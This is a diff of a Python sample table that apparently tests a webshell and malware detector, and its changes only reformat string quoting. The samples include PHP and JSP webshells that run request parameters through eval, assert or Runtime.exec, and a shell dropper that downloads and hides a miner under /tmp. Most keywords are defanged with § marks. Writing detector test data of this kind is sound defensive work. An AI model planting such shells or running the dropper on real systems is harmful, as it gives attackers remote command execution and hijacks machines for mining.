@@ -136,7 +136,7 @@ SAMPLES: tuple[Sample, ...] = (
         "php_webshell_known_kits",
         True,
         "wso.php",
-        "<?php\n$auth_p§ass = \"63a9f0ea7bb98050796b649e85481845\";\n$color = \"#df5\";\n"
+        '<?php\n$auth_p§ass = "63a9f0ea7bb98050796b649e85481845";\n$color = "#df5";\n'
         "$default_ac§tion = 'Files§Man';\nfunction run($c) { return shell_e§xec($c); }\n",
     ),
     Sample(
@@ -188,7 +188,7 @@ SAMPLES: tuple[Sample, ...] = (
         "php_obfuscated_function_name",
         True,
         "o6.php",
-        '<?php $f = "\\x61\\x73§\\x73\\x65\\x72\\x74"; $f($_POST[\'x\']); ?>\n',
+        "<?php $f = \"\\x61\\x73§\\x73\\x65\\x72\\x74\"; $f($_POST['x']); ?>\n",
     ),
     Sample(
         "php_obfuscated_function_name",
@@ -249,11 +249,11 @@ SAMPLES: tuple[Sample, ...] = (
         True,
         "bx.php",
         "<?php\n@error_reporting(0);\nsession_start();\n$key=\"e45e329f§eb5d925b\";\n$_SES§SION['k']=$key;\n"
-        "session_write_close();\n$post=file_get_contents(\"php://in§put\");\n"
-        "if(!extension_loaded('openssl')) {\n    $t=\"base64_\".§\"decode\";\n    $post=$t($post.\"\");\n"
+        'session_write_close();\n$post=file_get_contents("php://in§put");\n'
+        'if(!extension_loaded(\'openssl\')) {\n    $t="base64_".§"decode";\n    $post=$t($post."");\n'
         "    for($i=0;$i<strlen($post);$i++) { $post[$i] = $post[$i]^$key[$i§+1&15]; }\n"
         "} else {\n    $post=openssl_dec§rypt($post, \"AES128\", $key);\n}\n$arr=explode('|',$post);\n"
-        "class C{public function __inv§oke($p) {ev§al($p.\"\");}}\n@call_user_func(new C(),$arr[1]);\n",
+        'class C{public function __inv§oke($p) {ev§al($p."");}}\n@call_user_func(new C(),$arr[1]);\n',
     ),
     Sample(
         "behinder_php",
@@ -323,7 +323,7 @@ SAMPLES: tuple[Sample, ...] = (
         True,
         "gz.jsp",
         '<%! String x§c="3c6e0b8a§9c15224a"; String pass="pass"; String md5=md5(pass+xc);\n'
-        "public byte[] x(byte[] s,boolean m){ try{javax.crypto.Cipher c=javax.crypto.Cipher.getInstance(\"AES\");"
+        'public byte[] x(byte[] s,boolean m){ try{javax.crypto.Cipher c=javax.crypto.Cipher.getInstance("AES");'
         'c.in§it(m?1:2,new javax.crypto.spec.SecretKeySpec(xc.getBytes(),"AES"));return c.doFinal(s);}'
         "catch (Exception e){return null;}}%>\n"
         "<%try{byte[] data=base64Decode(request.getParameter(pass));data=x(data, false);"
@@ -363,7 +363,7 @@ SAMPLES: tuple[Sample, ...] = (
         "antsword_php_shell",
         True,
         "ant.php",
-        '<?php\n$ant = base64_de§code("YXNzZ§XJ0");\n$ant($_PO§ST[\'ant\']);\n?>\n',
+        "<?php\n$ant = base64_de§code(\"YXNzZ§XJ0\");\n$ant($_PO§ST['ant']);\n?>\n",
     ),
     Sample(
         "antsword_php_shell",
@@ -392,7 +392,8 @@ SAMPLES: tuple[Sample, ...] = (
         "cmd.jsp",
         '<%@ page import="java.io.*" %><%\nif (request.getParameter("cmd") != null) {\n'
         '    Process p = Runtime.getRun§time().ex§ec(request.getPara§meter("cmd"));\n'
-        "    InputStream in = p.getInputStream();\n    int c; while ((c = in.read()) != -1) out.print((char) c);\n}\n%>\n",
+        "    InputStream in = p.getInputStream();\n"
+        "    int c; while ((c = in.read()) != -1) out.print((char) c);\n}\n%>\n",
     ),
     Sample(
         "jsp_webshell_exec_request",
@@ -419,7 +420,8 @@ SAMPLES: tuple[Sample, ...] = (
         "jsp_webshell_script_engine_request",
         False,
         "calc.jsp",
-        '<%\nObject v = new javax.script.ScriptEngineManager().getEngineByName("js").eval("1 + 2");\nout.print(v);\n%>\n',
+        '<%\nObject v = new javax.script.ScriptEngineManager().getEngineByName("js").eval("1 + 2");\n'
+        "out.print(v);\n%>\n",
     ),
     Sample(
         "jsp_webshell_classloader_request",
@@ -530,13 +532,15 @@ SAMPLES: tuple[Sample, ...] = (
         "miner_browser_script",
         False,
         "footer_ok.html",
-        '<script src="/js/beehive.min.js"></script>\n<script>var hive = new Hive.Colony("school"); hive.start();</script>\n',
+        '<script src="/js/beehive.min.js"></script>\n'
+        '<script>var hive = new Hive.Colony("school"); hive.start();</script>\n',
     ),
     Sample(
         "miner_linux_dropper",
         True,
         "update.sh",
-        "#!/bin/sh\ncurl -fsSL http://203.0.113.5/xm§rig -o /tmp/.x\nch§mod +x /tmp/.x\nnohup /tmp/.x >/dev/null 2>&1 &\n",
+        "#!/bin/sh\ncurl -fsSL http://203.0.113.5/xm§rig -o /tmp/.x\nch§mod +x /tmp/.x\n"
+        "nohup /tmp/.x >/dev/null 2>&1 &\n",
     ),
     Sample(
         "miner_linux_dropper",
